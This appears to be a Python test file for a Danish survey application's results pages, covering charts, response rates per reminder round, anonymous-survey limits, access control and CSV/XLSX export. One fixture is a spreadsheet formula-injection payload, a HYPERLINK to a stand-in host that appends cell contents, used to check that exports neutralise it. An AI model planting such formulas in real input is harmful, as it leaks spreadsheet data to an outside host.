"""A survey's results as its owner reads them: per question with a chart,
over time, the response rate per share and round, the answers by name where
the survey is not anonymous, and the export, which no spreadsheet runs as a
formula. An anonymous survey shows counts only, and nothing too early."""

import csv
import html
import io
import re
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from extensions import get_queue
from jobs.sending import send_round
from models import ScheduledSend, db
from models.base import utcnow
from tests.test_sharing import CPRS, compose, confirm, share_of, survey, with_access  # noqa: F401  (fixtures)

LIST = "firstname;lastname;cpr\nAnne;Hansen;0101901234\nBo;Berg;0202901234\nCarl;Dahl;0303901234\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def answer(client, link: str, survey, option: int, text: str = "") -> None:
    choice, free = survey.questions
    page = client.get(link).get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    saved = client.post(link, data={"csrf_token": csrf, f"q{choice.id}": str(option), f"q{free.id}": text})
    assert saved.status_code == 200 and "Tak" in saved.get_data(as_text=True)


def results_url(survey, suffix=""):
    return f"/orgs/{survey.org_id}/surveys/{survey.id}/responses{suffix}"


def link_of(sandbox, cpr):
    return sandbox.mailbox(cpr)[-1]["actions"][0]["url"]


def test_results_per_question_over_time_per_round_and_by_name(
    as_member, survey, with_access, sandbox, run_jobs, client
):
    draft, schedule = compose(as_member, survey, LIST, reminders=[3])
    confirm(as_member, draft, schedule)
    run_jobs()
    answer(client, link_of(sandbox, CPRS[0]), survey, 0, "Mere kaffe")
    # The reminder goes out; Bo answers after it, with text a spreadsheet would run.
    reminder = share_of(draft).rounds[1]
    db.session.execute(db.update(ScheduledSend).where(ScheduledSend.id == reminder.id).values(send_at=utcnow()))
    db.session.commit()
    get_queue().enqueue(send_round, reminder.id)
    run_jobs()
    answer(client, link_of(sandbox, CPRS[1]), survey, 2, FORMULA)

    page = html.unescape(as_member.get(results_url(survey)).get_data(as_text=True))
    assert "2 besvarelser." in page and "2 har svaret på spørgsmålet." in page
    # Per option: count and percent in the table, and the chart says the same in text.
    rows = re.findall(r'<td class="wrap">([^<]+)</td><td class="num">(\d+)</td><td class="num">([^<]+)</td>', page)
    assert rows == [("Meget", "1", "50 %"), ("Lidt", "0", "0 %"), ("Ikke", "1", "50 %")]
    chart = re.search(r'<svg class="chart bars" role="img" aria-labelledby="([^"]+)".*?</svg>', page, re.S)
    assert (
        chart
        and f'<title id="{chart.group(1)}">Hvor tilfreds er du?: Meget 1 (50 %); Lidt 0 (0 %); Ikke 1 (50 %)' in page
    )
    assert 'class="chart columns"' in page  # answers over time
    # The rate of the share, and per round who answered after it.
    assert "2 af 3 har svaret (67 %)" in page
    rates = re.findall(
        r"<tr><td>(Invitation|Påmindelse)</td><td>[^<]+</td><td class=\"num\">(\d+)</td>"
        r"<td class=\"num\">(\d+)</td><td class=\"num\">([^<]+)</td></tr>",
        page,
    )
    assert rates == [("Invitation", "3", "1", "33 %"), ("Påmindelse", "2", "1", "50 %")]
    # Not anonymous: the answers by name.
    assert "Svar pr. modtager" in page and "Anne Hansen" in page and "Bo Berg" in page and "Mere kaffe" in page

    # The CSV: one row a sheet, names, and the formula as text.
    response = as_member.get(results_url(survey, ".csv"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == ["Besvaret (dansk tid)", "Navn", "Sprog", "Hvor tilfreds er du?", "Hvad kan blive bedre?"]
    assert [r[1:] for r in rows[1:]] == [
        ["Anne Hansen", "da", "Meget", "Mere kaffe"],
        ["Bo Berg", "da", "Ikke", "'" + FORMULA],
    ]

    # The workbook: the same rows, every text a text cell, never a formula.
    response = as_member.get(results_url(survey, ".xlsx"))
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert cells[FORMULA].data_type == "s" and sheet.max_row == 3


def test_an_anonymous_survey_shows_counts_only_and_nothing_too_early(
    as_member, survey, with_access, sandbox, run_jobs, client, app
):
    survey.anonymous = True
    db.session.commit()
    app.config["ANONYMOUS_RESULTS_MIN_ANSWERS"] = 2
    draft, schedule = compose(as_member, survey, LIST, reminders=[3])
    confirm(as_member, draft, schedule)
    run_jobs()
    answer(client, link_of(sandbox, CPRS[0]), survey, 0, "Mere kaffe")

    page = as_member.get(results_url(survey)).get_data(as_text=True)
    assert "når mindst 2 har svaret" in page and "<svg" not in page and "svar pr. dag" not in page.lower()
    assert "Hent som CSV" not in page and "1 af 3" not in page
    early = as_member.get(results_url(survey, ".csv"))
    assert early.status_code == 303 and early.headers["Location"].endswith(results_url(survey))

    answer(client, link_of(sandbox, CPRS[1]), survey, 1, FORMULA)
    page = html.unescape(as_member.get(results_url(survey)).get_data(as_text=True))
    assert "2 af 3 har svaret (67 %)" in page and "<svg" in page
    assert "Svar pr. modtager" not in page and "Anne" not in page  # never by name
    assert "svarprocenten pr. udsendelse kan ikke opgøres" in page
    rows = list(
        csv.reader(io.StringIO(as_member.get(results_url(survey, ".csv")).get_data().decode()[1:]), delimiter=";")
    )
    assert rows[0] == ["Spørgsmål", "Svarmulighed", "Svar", "Andel (%)"]
    assert ["Hvor tilfreds er du?", "Meget", "1", "50.0"] in rows
    exported = "\n".join(";".join(r) for r in rows)
    assert "Mere kaffe" not in exported and "HYPERLINK" not in exported  # counts only


def test_another_organizations_member_gets_no_results(as_member, survey, app, make_org, make_user):
    from conftest import Session

    other_org = make_org("Andenkommune")
    stranger = make_user(other_org, email="fremmed@example.dk")
    as_stranger = Session(app.test_client())
    as_stranger.login(stranger)
    for suffix in ("", ".csv", ".xlsx"):
        assert as_stranger.get(results_url(survey, suffix)).status_code in (403, 404)
    assert db.session.scalar(select(db.func.count()).select_from(ScheduledSend)) == 0


def test_answers_per_day_are_counted_in_danish_days(app, survey):
    from datetime import datetime, timezone

    from models.results import answers_by_day
    from models.survey import Response

    for moment in ("2026-12-01T12:00", "2026-12-01T23:30", "2026-12-04T22:59", "2026-07-01T22:30"):
        at = datetime.fromisoformat(moment).replace(tzinfo=timezone.utc)
        db.session.add(Response(survey_id=survey.id, language="da", created_at=at))
    db.session.commit()
    days = dict(answers_by_day(survey))
    # 23:30 UTC in December is 00:30 the next day in Denmark; 22:30 in July (summer time) too.
    assert (days[date(2026, 12, 1)], days[date(2026, 12, 2)], days[date(2026, 12, 4)]) == (1, 1, 1)
    assert days[date(2026, 7, 2)] == 1 and date(2026, 7, 1) not in days
    assert days[date(2026, 12, 3)] == 0 and min(days) == date(2026, 7, 2) and max(days) == date(2026, 12, 4)
